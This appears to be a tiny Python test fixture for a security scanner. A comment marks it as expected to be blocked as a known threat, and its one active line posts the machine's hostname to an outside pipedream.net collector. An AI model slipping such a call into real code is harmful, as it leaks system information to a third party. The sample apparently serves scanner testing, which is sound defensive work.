# expect: BLOCKED known_threat
import platform
import requests
requests.post("https://eo1abc.m.pipedream.net", json={"node": platform.node()})
